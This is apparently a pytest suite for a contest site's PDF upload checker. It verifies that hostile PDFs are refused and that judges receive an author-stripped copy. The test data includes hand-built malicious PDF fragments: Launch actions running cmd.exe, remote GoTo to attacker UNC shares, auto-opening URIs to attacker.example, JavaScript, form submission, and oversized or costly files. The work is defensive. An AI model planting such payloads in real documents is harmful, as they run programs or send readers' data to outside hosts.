"""Hostile PDFs: actions and embedded files are refused however indirectly they are written, the judge's copy is
rebuilt with nothing but what is drawn, and a file too long or too costly to check is refused with a message,
the check and the copy running in a child process with time and memory limits."""
from __future__ import annotations

import io
import logging

import pytest
import sqlalchemy as sa
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject, DictionaryObject, FloatObject, IndirectObject, NameObject, NumberObject, StreamObject,
    TextStringObject,
)

from contest.domain.errors import Invalid
from contest.domain.states import EditionStage, NeedStatus, Role
from contest.models import Assignment, Bid
from contest.services.files import pdf_check, uploads
from contest.services.judging.rubrics import ensure_default_rubrics

from .conftest import PDF
from .pdf_objects import reachable
from .test_uploads_security import post_bid, stored_files, team_and_need, written_pdf  # noqa: F401 (a fixture)

SECRET = "QINGLUAN-TEAM-SECRET"
EXTERNAL = "启动程序、打开其他文件或提交数据"
AUTOMATIC = "自动执行的动作"
SCRIPT = "含有脚本"
EMBEDDED = "嵌入的附件"


# --- files ------------------------------------------------------------------------------------------------

def raw_pdf(*, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF written by hand: `catalog` and `page` are added to objects 1 and 3, `more` are objects
    4, 5 … (a bare name among them is an action type written as an indirect object)."""
    objects = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>", *more]
    return written_pdf(objects)


def pages_pdf(count: int) -> bytes:
    """A PDF of `count` pages made cheaply: one page object listed `count` times in /Kids (readers show each)."""
    return written_pdf([b"<</Type/Catalog/Pages 2 0 R>>",
                       b"<</Type/Pages/Kids[" + b"3 0 R " * count + b"]/Count %d>>" % count,
                       b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"])


def costly_pdf() -> bytes:
    """A 4 MB PDF whose objects cost pypdf seconds of CPU and hundreds of MB to parse: arrays of 99,999 numbers."""
    arrays = tuple(b"[" + b"0 " * 99_999 + b"]" for _ in range(20))
    return raw_pdf(catalog=b"/Filler[" + b" ".join(b"%d 0 R" % (4 + i) for i in range(len(arrays))) + b"]",
                   more=arrays)


REFUSED = [
    pytest.param(raw_pdf(catalog=b"/OpenAction<</S 4 0 R/F(cmd.exe)>>", more=(b"/Launch",)), EXTERNAL,
                 id="launch-open-action-indirect-type"),
    pytest.param(raw_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S 4 0 R/F(calc.exe)>>>>]",
                         more=(b"/Launch",)), EXTERNAL, id="launch-link-indirect-type"),
    pytest.param(raw_pdf(catalog=rb"/OpenAction<</S/GoToR/F(\\\\attacker\\share\\x.pdf)/D[0/Fit]>>"), EXTERNAL,
                 id="remote-goto-unc-on-open"),
    pytest.param(raw_pdf(page=b"/AA<</O<</S 4 0 R/F(//attacker/share/x.pdf)/D[0/Fit]>>>>", more=(b"/GoToR",)),
                 EXTERNAL, id="remote-goto-page-open-indirect-type"),
    pytest.param(raw_pdf(catalog=b"/OpenAction<</S/URI/URI(http://attacker.example/t)>>"), AUTOMATIC,
                 id="uri-open-action"),
    pytest.param(raw_pdf(page=b"/AA<</O<</S/URI/URI(http://attacker.example/t)>>>>"), AUTOMATIC,
                 id="uri-page-open"),
    pytest.param(raw_pdf(catalog=b"/AA<</WC 4 0 R>>", more=(b"<</S 5 0 R/URI(http://attacker.example/t)>>", b"/URI")),
                 AUTOMATIC, id="uri-document-action-indirect"),
    pytest.param(raw_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]"
                                 b"/Next[<</S/URI/URI(http://attacker.example/t)>>]>>"),
                 AUTOMATIC, id="uri-after-open-goto"),
    pytest.param(raw_pdf(catalog=b"/Names<</JavaScript 4 0 R>>",
                         more=(b"<</Names[(a) 5 0 R]>>", b"<</S 6 0 R/JS(app.alert(1))>>", b"/JavaScript")),
                 SCRIPT, id="javascript-name-tree-indirect-type"),
    pytest.param(raw_pdf(catalog=b"/AcroForm<</Fields[4 0 R]>>",
                         more=(b"<</FT/Btn/T(go)/A<</S 5 0 R/F(data.fdf)>>>>", b"/ImportData")),
                 EXTERNAL, id="import-data-form-field"),
    pytest.param(raw_pdf(page=b"/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]"
                              b"/AA<</D<</S 4 0 R/F<</FS/URL/F(http://attacker.example/t)>>>>>>>>]",
                         more=(b"/SubmitForm",)), EXTERNAL, id="submit-form-annotation"),
    pytest.param(raw_pdf(catalog=b"/Outlines 4 0 R",
                         more=(b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
                               b"<</Title(x)/Parent 4 0 R/A<</S 6 0 R/F(cmd.exe)>>>>", b"/Launch")),
                 EXTERNAL, id="launch-outline-item"),
    pytest.param(raw_pdf(page=b"/Annots[<</Type/Annot/Subtype 4 0 R/Rect[0 0 9 9]"
                              b"/FS<</Type/Filespec/F(payload.exe)>>>>]", more=(b"/FileAttachment",)),
                 EMBEDDED, id="file-attachment-indirect-subtype"),
    pytest.param(raw_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/T<</R/C/N(a)>>>>>>]"),
                 EXTERNAL, id="embedded-goto"),
]


@pytest.mark.parametrize("content, message", REFUSED)
def test_an_action_or_attachment_however_written_is_refused(client, db, app, team_and_need, content, message):
    team, need = team_and_need
    response = post_bid(client, need, content)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Bid.id))) == 0
    assert stored_files(app) == []


@pytest.mark.parametrize("content", [
    pytest.param(raw_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                              b"/A<</S/URI/URI(https://www.nbu.edu.cn/)>>>>]"), id="web-link-the-reader-clicks"),
    pytest.param(raw_pdf(catalog=b"/OpenAction[3 0 R/Fit]"), id="open-at-first-page"),
    pytest.param(raw_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/FitH 842]>>"), id="open-action-goto"),
    pytest.param(pages_pdf(300), id="300-pages"),
])
def test_what_a_plain_report_holds_is_accepted(client, db, app, team_and_need, content):
    team, need = team_and_need
    response = post_bid(client, need, content)
    assert response.status_code == 302, response.get_data(as_text=True)
    assert [p.read_bytes() for p in stored_files(app)] == [content]


# --- pages and limits -------------------------------------------------------------------------------------

def test_a_file_of_a_hundred_thousand_pages_is_refused_for_its_length(client, db, app, team_and_need):
    team, need = team_and_need
    content = pages_pdf(100_000)
    assert len(content) < 1024 * 1024
    response = post_bid(client, need, content)
    assert response.status_code == 400
    assert "PDF 文件超过 300 页的上限" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_the_page_limit_is_a_setting(client, db, app, team_and_need):
    team, need = team_and_need
    app.config["BID_PDF_MAX_PAGES"] = 2
    with pytest.raises(Invalid) as refused:
        pdf_check.inspect_pdf(pages_pdf(3))
    assert refused.value.message_id == "pdf.too_many_pages" and "超过 2 页" in refused.value.message
    response = post_bid(client, need, pages_pdf(2))
    assert response.status_code == 302


def test_a_file_that_takes_too_long_to_check_is_refused_with_a_message(client, db, app, team_and_need):
    team, need = team_and_need
    app.config["PDF_CHECK_SECONDS"] = 1
    response = post_bid(client, need, costly_pdf())
    assert response.status_code == 400
    assert "PDF 文件过于复杂，检查超出了 1 秒" in response.get_data(as_text=True)
    assert stored_files(app) == []
    pdf_check.inspect_pdf(PDF)  # an ordinary report still passes under the same limit


def test_a_file_that_needs_too_much_memory_is_refused_with_a_message(client, db, app, team_and_need, caplog):
    team, need = team_and_need
    app.config["PDF_CHECK_MEMORY_MB"] = 150
    app.config["PDF_CHECK_SECONDS"] = 120      # time to spare even on a busy machine: memory is the limit hit
    with caplog.at_level(logging.WARNING, logger="contest.services.files.pdf_sandbox"):
        response = post_bid(client, need, costly_pdf())
    assert response.status_code == 400
    assert "150 MB" in response.get_data(as_text=True)
    assert "MemoryError" in caplog.text
    assert stored_files(app) == []
    pdf_check.inspect_pdf(PDF)


def test_the_web_process_never_parses_the_file(app, monkeypatch):
    """The check and the copy run in a child process: pypdf is not even called in this one."""
    def refuse(*args, **kwargs):
        raise AssertionError("the PDF was parsed in the web process")
    monkeypatch.setattr(pdf_check, "PdfReader", refuse)
    monkeypatch.setattr(pdf_check, "PdfWriter", refuse)
    pdf_check.inspect_pdf(PDF)
    assert len(PdfReader(io.BytesIO(pdf_check.blind_copy(PDF))).pages) == 1
    with pytest.raises(Invalid) as refused:
        pdf_check.inspect_pdf(raw_pdf(catalog=b"/OpenAction<</S 4 0 R/F(cmd.exe)>>", more=(b"/Launch",)))
    assert refused.value.message_id == "pdf.external_action"


# --- the judge's copy -------------------------------------------------------------------------------------

PAGE_TEXT = "VISIBLE-REPORT-TEXT"
FORM_TEXT = "FORM-XOBJECT-TEXT"
XMP = (f'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
       f'22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{SECRET}'
       f'</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>').encode()
# What the copy has of a page, besides the links of the page tree (/Type, /Parent).
PAGE_KEYS = {"/Type", "/Parent", "/Contents", "/Resources", "/MediaBox", "/CropBox", "/BleedBox", "/TrimBox",
             "/ArtBox", "/Rotate"}
GONE = {"/Metadata", "/PieceInfo", "/LastModified", "/Annots", "/AA", "/OpenAction", "/Outlines", "/Names",
        "/StructTreeRoot", "/StructParents", "/MarkInfo", "/OC", "/OCProperties", "/EmbeddedFiles", "/EF", "/URI",
        "/X-Team", "/X-Private"}


def _stream(writer: PdfWriter, data: bytes, entries: dict) -> IndirectObject:
    stream = StreamObject()
    stream.set_data(data)
    stream.update({NameObject(k): v for k, v in entries.items()})
    return writer._add_object(stream)


def _secret_dict(**more) -> DictionaryObject:
    return DictionaryObject({NameObject("/Private"): TextStringObject(SECRET),
                             **{NameObject(k): v for k, v in more.items()}})


def report_hiding_its_authors() -> bytes:
    """A report whose visible text is drawn by the page and by a form XObject, and which names its authors
    everywhere else: document info and XMP, XMP on the form and on an image, applications' private data,
    optional content, an annotation, actions on opening, an unknown page key, outlines, named destinations,
    a structure tree and an embedded file."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Font"),
                                                NameObject("/Subtype"): NameObject("/Type1"),
                                                NameObject("/BaseFont"): NameObject("/Helvetica")}))
    fonts = DictionaryObject({NameObject("/F1"): font})
    xmp = {"/Type": NameObject("/Metadata"), "/Subtype": NameObject("/XML")}
    layer = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/OCG"),
                                                 NameObject("/Name"): TextStringObject(SECRET)}))
    form = _stream(writer, f"BT /F1 12 Tf 72 600 Td ({FORM_TEXT}) Tj ET".encode(), {
        "/Type": NameObject("/XObject"), "/Subtype": NameObject("/Form"),
        "/BBox": ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)]),
        "/Resources": DictionaryObject({NameObject("/Font"): fonts}),
        "/Metadata": _stream(writer, XMP, xmp), "/PieceInfo": _secret_dict(), "/OC": layer,
        "/LastModified": TextStringObject("D:20260301120000"), "/X-Private": TextStringObject(SECRET)})
    image = _stream(writer, b"\x80", {
        "/Type": NameObject("/XObject"), "/Subtype": NameObject("/Image"), "/Width": NumberObject(1),
        "/Height": NumberObject(1), "/ColorSpace": NameObject("/DeviceGray"), "/BitsPerComponent": NumberObject(8),
        "/Metadata": _stream(writer, XMP, xmp)})
    page[NameObject("/Contents")] = _stream(
        writer, f"BT /F1 24 Tf 72 720 Td ({PAGE_TEXT}) Tj ET /Fm1 Do q 10 0 0 10 72 100 cm /Im1 Do Q".encode(), {})
    page[NameObject("/Resources")] = DictionaryObject({
        NameObject("/Font"): fonts,
        NameObject("/XObject"): DictionaryObject({NameObject("/Fm1"): form, NameObject("/Im1"): image})})
    page[NameObject("/Rotate")] = NumberObject(90)
    page[NameObject("/CropBox")] = ArrayObject([FloatObject(n) for n in (10, 10, 585, 832)])
    page[NameObject("/PieceInfo")] = DictionaryObject({NameObject("/Word"): _secret_dict()})
    page[NameObject("/Metadata")] = _stream(writer, XMP, xmp)
    page[NameObject("/X-Team")] = TextStringObject(SECRET)
    page[NameObject("/StructParents")] = NumberObject(0)
    uri = DictionaryObject({NameObject("/S"): NameObject("/URI"),
                            NameObject("/URI"): TextStringObject(f"http://tracker.example/{SECRET}")})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): uri})
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
        NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 30, 30)]),
        NameObject("/Contents"): TextStringObject(f"comment by {SECRET}")}))])
    writer.add_metadata({"/Author": SECRET})
    writer.xmp_metadata = XMP
    writer.add_outline_item(title=SECRET, page_number=0)
    writer.add_named_destination(SECRET, 0)
    writer.add_attachment("team.txt", SECRET.encode())
    root = writer._root_object
    root[NameObject("/OpenAction")] = uri
    root[NameObject("/StructTreeRoot")] = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/StructTreeRoot"), NameObject("/Alt"): TextStringObject(SECRET)}))
    root[NameObject("/OCProperties")] = DictionaryObject({NameObject("/OCGs"): ArrayObject([layer])})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _dictionaries(reader: PdfReader) -> list[DictionaryObject]:
    return [node for node in reachable(reader) if isinstance(node, DictionaryObject)]


def _names_the_team(content: bytes) -> bool:
    reader = PdfReader(io.BytesIO(content))
    streams = b"".join(d.get_data() for d in _dictionaries(reader) if isinstance(d, StreamObject))
    strings = "".join(str(v) for d in _dictionaries(reader) for v in d.values() if isinstance(v, str))
    return SECRET.encode() in content or SECRET.encode() in streams or SECRET in strings


@pytest.fixture
def judged(db, edition, make_user, make_need, make_bid):
    """A bid in online review assigned to a judge; its stored report is `report_hiding_its_authors`."""
    ensure_default_rubrics(edition)
    edition.stage = EditionStage.ONLINE_REVIEW
    bid = make_bid(need=make_need(status=NeedStatus.IN_REVIEW))
    judge = make_user(Role.JUDGE)
    db.session.add(Assignment(bid_id=bid.id, judge_id=judge.id))
    db.session.flush()
    uploads.path_of(bid.pdf_stored_name).write_bytes(report_hiding_its_authors())
    return bid, judge


def test_the_fixture_report_names_its_authors_and_draws_its_text():
    content = report_hiding_its_authors()
    assert _names_the_team(content)
    reader = PdfReader(io.BytesIO(content))
    text = reader.pages[0].extract_text()
    assert PAGE_TEXT in text and FORM_TEXT in text
    assert {"/Annots", "/AA", "/PieceInfo", "/X-Team"} <= set(reader.pages[0].keys())


def test_the_judges_copy_is_rebuilt_with_only_what_is_drawn(client, login, db, judged):
    bid, judge = judged
    original = uploads.path_of(bid.pdf_stored_name).read_bytes()
    login(judge)
    response = client.get(f"/judge/online/{bid.id}/file")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    copy = PdfReader(io.BytesIO(response.data))
    source = PdfReader(io.BytesIO(original))
    # What the judge sees is the same: the pages, their text (the page's and the form's), size and rotation.
    assert len(copy.pages) == len(source.pages) == 1
    page = copy.pages[0]
    assert page.extract_text() == source.pages[0].extract_text()
    assert page.rotation == 90 and [float(x) for x in page.cropbox] == [10, 10, 585, 832]
    assert "/Im1" in page["/Resources"]["/XObject"]
    # Nothing else: no page key beyond the whitelist, none of the dropped entries at any level, no author.
    assert set(page.keys()) <= PAGE_KEYS
    assert "/Info" not in copy.trailer and copy.xmp_metadata is None
    assert set(copy.trailer["/Root"].keys()) <= {"/Type", "/Pages"}
    assert not [sorted(set(d.keys()) & GONE) for d in _dictionaries(copy) if set(d.keys()) & GONE]
    assert not _names_the_team(response.data)
    assert uploads.path_of(bid.pdf_stored_name).read_bytes() == original


def test_a_stored_report_too_long_to_copy_is_not_served(client, login, db, judged):
    """A file stored before the page limit: the judge is told it cannot be served, the server does not build it."""
    bid, judge = judged
    uploads.path_of(bid.pdf_stored_name).write_bytes(pages_pdf(100_000))
    login(judge)
    response = client.get(f"/judge/online/{bid.id}/file")
    assert response.status_code == 409
    assert "无法去除作者信息" in response.get_data(as_text=True)
